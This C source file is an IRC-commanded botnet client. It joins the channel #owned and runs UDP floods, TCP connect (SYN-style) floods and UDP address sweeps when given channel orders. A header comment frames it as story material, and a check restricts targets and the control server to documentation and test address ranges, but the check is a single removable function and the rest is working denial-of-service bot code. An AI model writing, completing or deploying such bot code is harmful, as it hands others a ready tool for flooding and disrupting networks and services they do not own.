/* A bot as they were in 2009: takes orders over IRC and floods. For a story, in namespaces only:
 * it refuses every address outside the networks that are reserved for documentation and tests.
 * bot SERVER PORT NICK, then in the channel: "!udp A.B.C.D PORT SECONDS", "!syn …", "!scan …".
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static int reserved(in_addr_t net)
{
    unsigned long host = ntohl(net);
    return (host >> 8) == 0xc00002 || (host >> 8) == 0xc63364 || (host >> 8) == 0xcb0071 /* RFC 5737 */
        || (host >> 17) == (0xc6120000UL >> 17);                                      /* RFC 2544 */
}

static struct sockaddr_in address(const char *text, int port)
{
    struct sockaddr_in to;
    memset(&to, 0, sizeof to);
    to.sin_family = AF_INET;
    to.sin_port = htons((unsigned short)port);
    if (inet_pton(AF_INET, text, &to.sin_addr) != 1 || !reserved(to.sin_addr.s_addr))
        exit(2);
    return to;
}

static void flood_udp(struct sockaddr_in to, time_t until, int many)
{
    char data[376];
    unsigned long first = ntohl(to.sin_addr.s_addr), n = 0;
    int channel = socket(AF_INET, SOCK_DGRAM, 0);
    memset(data, 'A', sizeof data);
    while (time(NULL) < until) {
        if (many)
            to.sin_addr.s_addr = htonl((unsigned int)(first + n++ % 60000));
        if (!reserved(to.sin_addr.s_addr))
            continue;
        sendto(channel, data, sizeof data, 0, (struct sockaddr *)&to, sizeof to);
    }
    close(channel);
}

static void flood_syn(struct sockaddr_in to, time_t until)
{
    enum { MANY = 200 };
    int open_ones[MANY], n = 0;
    memset(open_ones, -1, sizeof open_ones);
    while (time(NULL) < until) {
        int one = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
        if (open_ones[n] >= 0)
            close(open_ones[n]);
        open_ones[n] = one;
        n = (n + 1) % MANY;
        if (one >= 0)
            (void)connect(one, (struct sockaddr *)&to, sizeof to);
    }
    for (n = 0; n < MANY; n++)
        if (open_ones[n] >= 0)
            close(open_ones[n]);
}

static void obey(const char *line)
{
    char verb[8], to[32];
    int port, seconds;
    const char *order = strchr(line, '!');
    while (order != NULL && sscanf(order, "!%7s %31s %d %d", verb, to, &port, &seconds) != 4)
        order = strchr(order + 1, '!');
    if (order == NULL)
        return;
    time_t until = time(NULL) + seconds;
    if (strcmp(verb, "udp") == 0)
        flood_udp(address(to, port), until, 0);
    else if (strcmp(verb, "scan") == 0)
        flood_udp(address(to, port), until, 1);
    else if (strcmp(verb, "syn") == 0)
        flood_syn(address(to, port), until);
}

int main(int count, char **words)
{
    char line[1024];
    if (count != 4)
        return 2;
    struct sockaddr_in server = address(words[1], atoi(words[2]));
    int channel = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(channel, (struct sockaddr *)&server, sizeof server) != 0)
        return 3;
    int length = snprintf(line, sizeof line, "NICK %s\r\nUSER %s 0 * :bot\r\n", words[3], words[3]);
    if (write(channel, line, (size_t)length) != length)
        return 3;
    FILE *said = fdopen(channel, "r");
    while (fgets(line, sizeof line, said) != NULL) {
        if (strncmp(line, "PING", 4) == 0) {
            line[1] = 'O';
            if (write(channel, line, strlen(line)) < 0)
                return 3;
        } else if (strstr(line, " 001 ") != NULL) {
            if (write(channel, "JOIN #owned\r\n", 13) != 13)
                return 3;
        } else if (strstr(line, "PRIVMSG") != NULL) {
            obey(line);
        }
    }
    return 0;
}
